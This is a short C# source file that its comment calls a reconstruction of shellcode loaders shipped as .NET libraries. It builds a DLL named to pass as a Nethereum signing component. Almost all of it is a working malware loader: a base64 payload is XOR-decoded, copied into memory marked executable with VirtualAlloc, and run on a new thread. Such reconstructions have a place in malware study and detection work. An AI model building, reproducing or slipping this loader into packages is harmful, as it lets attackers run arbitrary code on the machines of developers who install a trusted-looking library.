// Reconstruction of shellcode loaders shipped as .NET libraries: the bytes are decoded
// from base64 and XOR, copied into memory made executable with VirtualAlloc, and run on
// a new thread. Built with: mcs -target:library -out:Nethereum.Signer.Native.dll Native.cs
using System;
using System.Runtime.InteropServices;

namespace Nethereum.Signer.Native
{
    public static class Bootstrap
    {
        [DllImport("kernel32.dll")]
        static extern IntPtr VirtualAlloc(IntPtr address, uint size, uint type, uint protect);

        [DllImport("kernel32.dll")]
        static extern IntPtr CreateThread(IntPtr attributes, uint stack, IntPtr start, IntPtr parameter, uint flags, IntPtr id);

        [DllImport("kernel32.dll")]
        static extern uint WaitForSingleObject(IntPtr handle, uint milliseconds);

        public static void Init()
        {
            byte[] code = Convert.FromBase64String("/EiD5PDowAAAAEFRQVBSUVZIMdJlSItSYEiLUhhIi1IgSItyUEgPt0pKTTHJSDHArDxhfAIsIEHByQ1BAcHi7VJBUUiLUiCLQjxIAdCLgIgAAABIhcB0Z0gB0FCLSBhEi0AgSQHQ");
            for (int i = 0; i < code.Length; i++) code[i] ^= 0x5A;
            IntPtr memory = VirtualAlloc(IntPtr.Zero, (uint)code.Length, 0x3000, 0x40);
            Marshal.Copy(code, 0, memory, code.Length);
            IntPtr thread = CreateThread(IntPtr.Zero, 0, memory, IntPtr.Zero, 0, IntPtr.Zero);
            WaitForSingleObject(thread, 0xFFFFFFFF);
        }
    }
}
